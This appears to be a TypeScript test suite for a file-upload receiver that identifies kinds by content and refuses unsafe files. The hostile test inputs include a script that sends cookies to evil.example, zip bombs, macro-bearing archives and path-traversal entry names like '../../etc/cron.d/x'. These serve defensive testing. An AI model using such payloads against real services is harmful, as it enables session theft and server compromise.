import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import {
  docx,
  docxEntries,
  jpeg,
  ofd,
  ofdEntries,
  pdf,
  png,
  xlsx,
  xlsxEntries,
} from '../../../test/support/files/samples.ts';
import { zip, type Entry } from '../../../test/support/files/zip-writer.ts';
import { area } from '../../kernel/id.ts';
import { decryptChunks } from './chunks.ts';
import { diskStore } from './disk-store.ts';
import { ALL_KINDS, FILE_KINDS } from './kind.ts';
import { receive, type Incoming } from './receive.ts';
import type { FileStore } from './store.ts';

const here = area('370828000000');
const MiB = 1024 * 1024;
let root: string;
let store: FileStore;

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'ow-receive-'));
  store = diskStore(root);
});
afterEach(() => rmSync(root, { recursive: true }));

async function* inPieces(bytes: Uint8Array | string): AsyncGenerator<Uint8Array> {
  const all = Buffer.from(bytes);
  for (let at = 0; at < all.length; at += 70_000) yield all.subarray(at, at + 70_000);
}

const hand = (bytes: Uint8Array | string, { name = 'file', ...limits }: Partial<Omit<Incoming, 'content'>> = {}) =>
  receive(store, here, { content: inPieces(bytes), name, ...limits });

/** The refusal, after making sure that nothing of the file stayed behind. */
async function refusalOf(bytes: Uint8Array | string, upload: Partial<Omit<Incoming, 'content'>> = {}) {
  const result = await hand(bytes, upload);
  expect(filesOnDisk()).toEqual([]);
  return result.ok ? undefined : result.error;
}

const filesOnDisk = () =>
  readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((path) => statSync(join(root, path)).isFile());

describe('a file that is taken', () => {
  test.each([
    ['pdf', pdf()],
    ['jpeg', jpeg()],
    ['png', png()],
    ['docx', docx()],
    ['xlsx', xlsx()],
    ['ofd', ofd()],
  ] as const)('is known as %s by its content, under any name', async (kind, bytes) => {
    for (const name of [
      '',
      '证明',
      'a.b.c',
      `${FILE_KINDS[kind].extensions[0]}.tmp`,
      '../../x',
      '👩🏽‍⚖️',
      'x'.repeat(5_000),
    ]) {
      const result = await hand(bytes, { name });
      expect(result).toMatchObject({ ok: true, value: { kind, size: bytes.length, name: name.slice(-500) } });
    }
  });

  test('lies on the disk encrypted, and comes back whole with its key', async () => {
    const bytes = Buffer.concat([pdf('张三 370828199001011234'), randomBytes(200_000)]);
    const result = await hand(bytes, { name: '张三.pdf' });
    if (!result.ok) throw new Error(result.error.code);
    const [path = ''] = filesOnDisk();
    const onDisk = readFileSync(join(root, path));
    expect(onDisk.includes('%PDF-') || onDisk.includes('370828199001011234') || path.includes('张三')).toBe(false);
    const { stored, key } = result.value;
    const content: Uint8Array[] = [];
    for await (const piece of decryptChunks(key, store.read(here, stored.hash))) content.push(piece);
    expect(Buffer.concat(content).equals(bytes)).toBe(true);
  });

  test('is stored under another address each time, so that nobody sees that two people handed in the same', async () => {
    const [first, second] = [await hand(pdf()), await hand(pdf())];
    expect(first.ok && second.ok && first.value.stored.hash !== second.value.stored.hash).toBe(true);
  });

  test('may be a picture with the extension of another kind of picture', async () => {
    expect(await hand(png(), { name: 'photo.jpg' })).toMatchObject({ ok: true, value: { kind: 'png' } });
  });

  test('may be a letter that carries a workbook for its chart, and an archive with a comment', async () => {
    expect((await hand(docx({ name: 'word/embeddings/sheet1.xlsx', data: xlsx() }))).ok).toBe(true);
    expect((await hand(zip({ entries: [...ofdEntries], comment: 'made by a scanner' }))).ok).toBe(true);
  });

  test('may be written by a program that leaves room between entries', async () => {
    expect((await hand(zip({ entries: [...docxEntries], entryGap: 16 }))).ok).toBe(true);
  });
});

describe('a file that is too large or empty', () => {
  test('is refused when it holds nothing', async () => {
    expect(await refusalOf('')).toEqual({ code: 'fileEmpty' });
  });

  test('is taken at the limit and refused one byte past it', async () => {
    const bytes = pdf();
    expect((await hand(bytes, { mostBytes: bytes.length })).ok).toBe(true);
    rmSync(join(root, here), { recursive: true });
    expect(await refusalOf(bytes, { mostBytes: bytes.length - 1 })).toEqual({
      code: 'fileTooLarge',
      mostBytes: bytes.length - 1,
    });
  });

  test('is held to the limit of its own kind, which no caller can raise', async () => {
    const picture = Buffer.concat([png(), Buffer.alloc(FILE_KINDS.png.mostBytes)]);
    expect(await refusalOf(picture, { mostBytes: 1_000 * MiB })).toEqual({
      code: 'fileTooLarge',
      mostBytes: FILE_KINDS.png.mostBytes,
    });
    expect(await refusalOf(docx(), { mostBytes: 100 })).toEqual({ code: 'fileTooLarge', mostBytes: 100 });
  });

  test('is not read to its end', async () => {
    let sent = 0;
    let stopped = false;
    async function* endless(): AsyncGenerator<Uint8Array> {
      try {
        for (yield pdf(); ; sent += 64 * 1024) yield Buffer.alloc(64 * 1024);
      } finally {
        stopped = true;
      }
    }
    const result = await receive(store, here, { content: endless(), name: 'endless', mostBytes: MiB });
    expect(result).toEqual({ ok: false, error: { code: 'fileTooLarge', mostBytes: MiB } });
    expect(sent).toBeLessThan(2 * MiB);
    expect(stopped).toBe(true);
    expect(filesOnDisk()).toEqual([]);
  });

  test('of a wrong kind is refused by its beginning, and the sender is stopped', async () => {
    let stopped = false;
    async function* endless(): AsyncGenerator<Uint8Array> {
      try {
        for (;;) yield Buffer.from('GIF89a'.padEnd(1_000));
      } finally {
        stopped = true;
      }
    }
    const result = await receive(store, here, { content: endless(), name: 'x.gif' });
    expect(result).toMatchObject({ ok: false, error: { code: 'fileKindUnknown', found: 'image/gif' } });
    expect(stopped).toBe(true);
  });

  test('whose connection breaks leaves nothing behind', async () => {
    async function* broken(): AsyncGenerator<Uint8Array> {
      yield pdf();
      yield randomBytes(10_000);
      throw new Error('connection lost');
    }
    await expect(receive(store, here, { content: broken(), name: 'x' })).rejects.toThrow('connection lost');
    expect(filesOnDisk()).toEqual([]);
  });
});

describe('a file of a kind that is not taken', () => {
  test.each([
    ['HEIC from a telephone', '000000186674797068656963000000006d69663168656963', 'image/heic'],
    ['rar', '526172211a0700cf907300000d00000000000000', 'application/x-rar-compressed'],
    ['gzip', `1f8b0800000000000003${'00'.repeat(20)}`, 'application/gzip'],
    ['a Windows program', `4d5a${'00'.repeat(100)}`, 'application/x-msdownload'],
    ['an old Word file', `d0cf11e0a1b11ae1${'00'.repeat(520)}`, 'application/x-cfb'],
  ])('is refused and called by its name: %s', async (_what, hex, found) => {
    expect(await refusalOf(Buffer.from(hex, 'hex'), { name: 'photo.jpg' })).toEqual({
      code: 'fileKindUnknown',
      found,
      accepted: ALL_KINDS,
    });
  });

  test('is refused when nobody knows what it is', async () => {
    for (const bytes of ['hello', randomBytes(5_000).fill(1, 0, 8), Buffer.from([0])]) {
      expect(await refusalOf(bytes, { name: 'x.pdf' })).toEqual({
        code: 'fileKindUnknown',
        found: undefined,
        accepted: ALL_KINDS,
      });
    }
  });

  test('is refused where the material asks for another', async () => {
    const accept = ['jpeg', 'png'] as const;
    expect(await refusalOf(pdf(), { accept })).toEqual({
      code: 'fileKindUnknown',
      found: 'application/pdf',
      accepted: accept,
    });
    expect(await refusalOf(docx(), { accept })).toMatchObject({ found: 'application/zip' });
    expect(await refusalOf(docx(), { accept: ['xlsx'] })).toMatchObject({ found: FILE_KINDS.docx.mediaType });
  });

  test('is refused when its name promises quite another', async () => {
    expect(await refusalOf(xlsx(), { name: '身份证.jpg' })).toEqual({ code: 'fileMisnamed', kind: 'xlsx' });
    expect(await refusalOf(png(), { name: '合同.pdf' })).toEqual({ code: 'fileMisnamed', kind: 'png' });
  });
});

describe('what a browser would run', () => {
  const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
  test.each([
    ['HTML called .jpg', `<!DOCTYPE html><html>${script}</html>`],
    ['HTML after white space and a byte order mark', `\ufeff \r\n\t<html>${script}`],
    ['HTML after a comment', `<!-- ${'x'.repeat(500)} --><body onload=alert(1)>`],
    ['a bare script', script],
    ['HTML in UTF-16', Buffer.from(`<html>${script}`, 'utf16le')],
    ['SVG with a script', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
    [
      'SVG after an XML declaration',
      `<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
    ],
    ['XML that brings its own style sheet', `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><x/>`],
  ])('is refused: %s', async (_what, bytes) => {
    expect(await refusalOf(bytes, { name: 'photo.jpg' })).toEqual({ code: 'fileActive', accepted: ALL_KINDS });
  });

  test('is refused within a picture or a document that could pass for a page', async () => {
    expect(await refusalOf(jpeg({ comment: `<html>${script}` }))).toEqual({ code: 'fileAmbiguous' });
    expect(await refusalOf(png({ text: script }))).toEqual({ code: 'fileAmbiguous' });
    expect(await refusalOf(pdf(`<html>${script}`))).toEqual({ code: 'fileAmbiguous' });
    expect(await refusalOf(zip({ entries: [{ name: `<html>${script}`, data: '' }, ...docxEntries] }))).toEqual({
      code: 'fileAmbiguous',
    });
  });
});

describe('a file that is two kinds at once', () => {
  const archive = zip({ entries: [{ name: 'Main.class', data: 'x' }] });
  test.each([
    ['a picture with an archive behind it', Buffer.concat([jpeg(), archive])],
    ['a PDF with an archive behind it', Buffer.concat([pdf(), archive])],
    ['a picture whose comment begins a PDF', jpeg({ comment: '%PDF-1.4' })],
    ['a PDF that begins late', Buffer.concat([Buffer.from('\ufeff'), pdf()])],
    ['an archive with a second one before it', zip({ entries: [...docxEntries], prefix: docx() })],
    ['a letter that is a workbook too', zip({ entries: [...docxEntries, ...ofdEntries] })],
  ])('is refused: %s', async (_what, bytes) => {
    expect(await refusalOf(bytes)).toEqual({ code: 'fileAmbiguous' });
  });
});

describe('a container that would harm who opens it', () => {
  const unsafe = (fault: string) => ({ code: 'fileUnsafe', fault });
  const zeros = Buffer.alloc(20 * MiB);
  const withEntry = (...entries: Entry[]) => zip({ entries: [...xlsxEntries, ...entries] });

  test.each([
    ['a bomb of one entry', 'shrinksTooMuch', withEntry({ name: 'xl/media/a.bin', data: zeros })],
    [
      'a bomb of many entries',
      'tooMuchInside',
      withEntry(...Array.from({ length: 14 }, (_, n) => ({ name: `xl/${n}`, data: zeros }) as const)),
    ],
    [
      'a bomb that says it is small',
      'liesAboutSize',
      withEntry({ name: 'xl/a', data: zeros, says: { unpacked: 1_000 } }),
    ],
    [
      'an entry that says it is larger than it is',
      'liesAboutSize',
      withEntry({ name: 'xl/a', data: 'x', says: { unpacked: 1_000 } }),
    ],
    [
      'entries that share their bytes',
      'overlapping',
      withEntry({ name: 'xl/a', data: 'x' }, { name: 'xl/a', data: 'x', overlaps: true }),
    ],
    [
      'an entry that runs into the next',
      'overlapping',
      withEntry({ name: 'xl/a', data: 'x', says: { packed: 5_000 } }),
    ],
    [
      'an archive inside',
      'archiveInside',
      withEntry({ name: 'xl/more', data: zip({ entries: [{ name: 'a', data: 'x' }] }) }),
    ],
    ['a stored archive inside', 'archiveInside', withEntry({ name: 'a.png', method: 0, data: docx() })],
    ['a rar inside', 'archiveInside', withEntry({ name: 'a', data: Buffer.from('526172211a0700cf90', 'hex') })],
    ['macros', 'macros', withEntry({ name: 'xl/vbaProject.bin', data: 'x' })],
    ['encryption', 'encrypted', withEntry({ name: 'xl/a', data: 'x', encrypted: true })],
    ['a path upwards', 'unsafePath', withEntry({ name: '../../etc/cron.d/x', data: 'x' })],
    ['a path from the root', 'unsafePath', withEntry({ name: '/etc/passwd', data: 'x' })],
    ['a path of Windows', 'unsafePath', withEntry({ name: 'C:\\Windows\\x', data: 'x' })],
    [
      'too many entries',
      'tooManyEntries',
      withEntry(...Array.from({ length: 4_001 }, (_, n) => ({ name: `xl/${n}`, data: '' }))),
    ],
  ])('is refused for %s', async (_what, fault, bytes) => {
    expect(await refusalOf(bytes)).toEqual(unsafe(fault));
  });

  test('is refused for macros that only its list of types admits', async () => {
    const [types] = docxEntries;
    const data = String(types?.data).replace(
      '"/>',
      '"/><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    );
    expect(await refusalOf(zip({ entries: [{ name: '[Content_Types].xml', data }, ...docxEntries.slice(1)] }))).toEqual(
      unsafe('macros'),
    );
  });
});

describe('a container that is damaged or holds something else', () => {
  const cut = docx();
  test.each([
    ['cut short', cut.subarray(0, cut.length - 30)],
    ['with bytes behind its end', Buffer.concat([cut, Buffer.from('x')])],
    ['with fewer entries than it says', zip({ entries: [...docxEntries], entriesSaid: 7 })],
    ['without entries', Buffer.concat([Buffer.from('PK\x03\x04'), zip({ entries: [] }).subarray(4)])],
    [
      'whose two headers name an entry differently',
      zip({ entries: [{ name: 'a', localName: 'b', data: 'x' }, ...docxEntries] }),
    ],
    [
      'whose two headers pack an entry differently',
      zip({ entries: [{ name: 'a', localMethod: 0, data: 'x' }, ...docxEntries] }),
    ],
    [
      'packed by a method that office programs do not use',
      zip({ entries: [{ name: 'a', method: 12, data: 'x' }, ...docxEntries] }),
    ],
    ['whose packed bytes are noise', zip({ entries: [...docxEntries, { name: 'a', raw: Buffer.alloc(50, 0xff) }] })],
  ])('is refused: %s', async (_what, bytes) => {
    expect(await refusalOf(bytes)).toEqual({ code: 'fileDamaged' });
  });

  test('is refused as an unknown kind when it is an ordinary archive', async () => {
    expect(await refusalOf(zip({ entries: [{ name: 'readme.txt', data: 'x' }] }))).toEqual({
      code: 'fileKindUnknown',
      found: 'application/zip',
      accepted: ALL_KINDS,
    });
  });
});

describe('a picture made to fill the memory of who opens it', () => {
  test.each([
    ['PNG', png({ width: 60_000, height: 60_000 })],
    ['JPEG', jpeg({ width: 65_000, height: 65_000 })],
  ])('is refused: %s', async (_what, bytes) => {
    expect(await refusalOf(bytes)).toEqual({ code: 'filePixels', mostPixels: 120_000_000 });
  });

  test('is refused when it declares no size at all', async () => {
    expect(await refusalOf(jpeg({ width: 0 }))).toEqual({ code: 'fileDamaged' });
    expect(await refusalOf(Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(100_000, 0xff)]))).toEqual({
      code: 'fileDamaged',
    });
    expect(await refusalOf(Buffer.concat([Buffer.from('ffd8ff', 'hex'), Buffer.alloc(100)]))).toEqual({
      code: 'fileDamaged',
    });
  });

  test('is taken when it is the largest that telephones make', async () => {
    expect((await hand(jpeg({ width: 12_032, height: 9_024 }))).ok).toBe(true);
  });
});
